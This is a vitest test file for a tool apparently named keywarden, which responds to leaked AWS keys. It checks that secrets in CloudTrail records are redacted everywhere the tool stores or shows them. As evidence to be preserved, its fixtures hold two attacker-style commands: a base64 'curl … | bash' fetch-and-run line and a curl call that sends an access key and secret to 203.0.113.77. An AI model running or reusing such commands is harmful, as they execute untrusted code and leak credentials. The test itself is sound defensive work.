import { mkdtemp, readFile, readdir } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { REDACTED, redactText, redactValue } from "../src/response/redact.js";
import type { IncidentReport } from "../src/response/types.js";
import { createApp } from "../src/server/app.js";
import type { RotationController } from "../src/server/ports.js";
import { hashToken } from "../src/server/token.js";
import { openStore } from "../src/store/open.js";
import { leakedForms, makeSecret, recordsWithSecrets, secretForms } from "./fixtures/cloudtrail/secrets.js";
import { writeRecordsAs } from "./fixtures/cloudtrail/shapes.js";
import { useEmulator } from "./emulator/harness.js";
import { runCli } from "./helpers/cli.js";

// A secret in a CloudTrail field, in any encoding (fixtures/cloudtrail/secrets.ts), never reaches
// what keywarden keeps or shows: the store, `respond --out`, `incidents report` in every format,
// and the server's incident routes. One redaction pass (src/response/redact.ts) does it.

const emu = useEmulator();
const TOKEN = "kwd_redaction-test-token";

describe("the redaction pass", () => {
  it("replaces every encoding of a secret, and keeps what is evidence", () => {
    const f = secretForms(makeSecret(), "AKIAIOSFODNN7EXAMPLE");
    for (const [name, form] of Object.entries(f.forms)) {
      expect(redactText(`value=${form};`), name).toBe(`value=${REDACTED};`);
    }
    for (const kept of [
      "AKIAIOSFODNN7EXAMPLE",
      "arn:aws:iam::123456789012:user/support-backup",
      "AWSLogs/123456789012/CloudTrail/useast1/2026/11/20",
      "exports/2026/Q3/CustomerRecordsFull/part00001",
      "da39a3ee5e6b4b0d3255bfef95601890afd80709",
      "aws-sdk-go-v2/1.32.3 os/linux lang/go#1.23.1 md/GOOS#linux api/sts#1.26.2",
      Buffer.from("#!/bin/bash\ncurl -s http://203.0.113.77/m.sh | bash\n").toString("base64"),
    ]) {
      expect(redactText(kept)).toBe(kept);
    }
    const f2 = secretForms(makeSecret(), "AKIAIOSFODNN7EXAMPLE");
    expect(leakedForms(JSON.stringify(redactValue(f2.forms)), f2)).toEqual([]);
  });

  it("keeps the name of a secret (secretId) but not its value, nor a secret-shaped id", () => {
    const secret = makeSecret();
    expect(
      redactValue({
        secretId: "prod/db",
        secretArn: "arn:aws:secretsmanager:eu-west-1:1:secret:x",
        secretString: "hunter2",
      }),
    ).toEqual({
      secretId: "prod/db",
      secretArn: "arn:aws:secretsmanager:eu-west-1:1:secret:x",
      secretString: REDACTED,
    });
    expect(redactValue({ secretId: secret })).toEqual({ secretId: REDACTED });
  });
});

describe("a secret in a --logs record", () => {
  it("is in none of: the store, respond --out, incidents report (json, markdown, html), the API's incident routes", async () => {
    await emu.createUser("ci-deployer");
    const key = (await emu.createKey("ci-deployer")).accessKeyId;
    const f = secretForms(makeSecret(), key);
    const records = recordsWithSecrets(key, f);
    // Half through the trail's own files (the cut-out fast path), half through a JSON Lines export.
    const logs = await mkdtemp(join(tmpdir(), "kw-secret-logs-"));
    await writeRecordsAs(logs, "s3-records", records.slice(0, 3));
    await writeRecordsAs(logs, "otrf-logstash-jsonl", records.slice(3));
    const home = await mkdtemp(join(tmpdir(), "kw-secret-home-"));
    const env = {
      KEYWARDEN_HOME: home,
      AWS_ENDPOINT_URL: emu.endpoint,
      AWS_ACCESS_KEY_ID: "testing",
      AWS_SECRET_ACCESS_KEY: "testing",
      AWS_REGION: "us-east-1",
    };
    const out = join(home, "incident.json");
    const r = await runCli(
      ["respond", key, "--yes", "--no-lookup", "--logs", logs, "--format", "json", "--out", out],
      {
        env,
      },
    );
    expect(r.code, r.stderr).toBe(0);
    expect(leakedForms(r.stdout + r.stderr, f)).toEqual([]);
    const written = await readFile(out, "utf8");
    expect(leakedForms(written, f)).toEqual([]);
    const report = JSON.parse(written) as IncidentReport;
    expect(report.eventCount).toBe(6);
    // What is not secret stays: the command line around the secret, the document, the tags' names.
    const send = report.events.find((e) => e.eventName === "SendCommand");
    expect(JSON.stringify(send?.requestParameters)).toContain(
      `curl -s \\"https://203.0.113.77/c?id=${key}&k=${REDACTED}\\"`,
    );
    expect(JSON.stringify(report.events)).toContain("aws s3 cp s3:");
    // "creds/" is base64 text glued to the secret: the run goes whole.
    expect(report.userAgents).toContain(`python-requests/2.31.0 ${REDACTED}`);

    // The store: the record, and the database files' bytes.
    const store = await openStore({ env });
    try {
      const stored = await store.getRecord("incident", report.incidentId);
      expect(stored).not.toBeNull();
      expect(leakedForms(JSON.stringify(stored?.data), f)).toEqual([]);
      for (const name of await readdir(home)) {
        if (name.startsWith("keywarden.db")) {
          expect(leakedForms((await readFile(join(home, name))).toString("latin1"), f), name).toEqual([]);
        }
      }

      for (const format of ["json", "markdown", "html"]) {
        const rep = await runCli(["incidents", "report", report.incidentId, "--format", format], { env });
        expect(rep.code).toBe(0);
        expect(leakedForms(rep.stdout, f), format).toEqual([]);
      }
      const shown = await runCli(["incidents", "report", report.incidentId, "--format", "json"], { env });
      expect(JSON.parse(shown.stdout)).toEqual(report);

      // An incident stored by an older keywarden, before the pass caught every encoding: redacted
      // on the way out of the CLI and the API alike. (The store's own guard refuses the plain form,
      // then as now: the encoded ones are what got through.)
      const legacy = {
        ...report,
        incidentId: "inc-20261120-050000-legacy",
        events: report.events.map((e) => ({ ...e })),
      };
      const encoded = Object.entries(f.forms).flatMap(([name, form]) => (name === "plain" ? [] : [form]));
      legacy.events[0] = {
        ...legacy.events[0],
        requestParameters: { leaked: encoded },
      } as (typeof legacy.events)[0];
      legacy.userAgents = [`python-requests/2.31.0 creds/${f.forms.urlEncoded ?? ""}`];
      await store.putRecord({
        kind: "incident",
        id: legacy.incidentId,
        subject: key,
        data: legacy,
      });
      expect(
        leakedForms(JSON.stringify((await store.getRecord("incident", legacy.incidentId))?.data), f),
      ).not.toEqual([]);
      for (const format of ["json", "markdown", "html"]) {
        const rep = await runCli(["incidents", "report", legacy.incidentId, "--format", format], { env });
        expect(leakedForms(rep.stdout, f), `legacy ${format}`).toEqual([]);
      }
      const list = await runCli(["incidents", "--format", "json"], { env });
      expect(leakedForms(list.stdout, f)).toEqual([]);

      const app = createApp({
        store,
        now: () => new Date(),
        runAudit: () => Promise.reject(new Error("not in this test")),
        rotations: {} as unknown as RotationController,
        tokenHash: hashToken(TOKEN),
        allowActions: false,
      });
      for (const id of [report.incidentId, legacy.incidentId]) {
        for (const path of [
          "/api/v1/incidents",
          `/api/v1/incidents/${id}`,
          `/api/v1/incidents/${id}/report?format=json`,
          `/api/v1/incidents/${id}/report?format=markdown`,
          `/api/v1/incidents/${id}/report?format=html`,
        ]) {
          const res = await app.request(path, { headers: { Authorization: `Bearer ${TOKEN}` } });
          expect(res.status, path).toBe(200);
          expect(leakedForms(await res.text(), f), path).toEqual([]);
        }
      }
    } finally {
      await store.close();
    }
    // Nine CLI runs, each a Node start with tsx.
  }, 180_000);
});
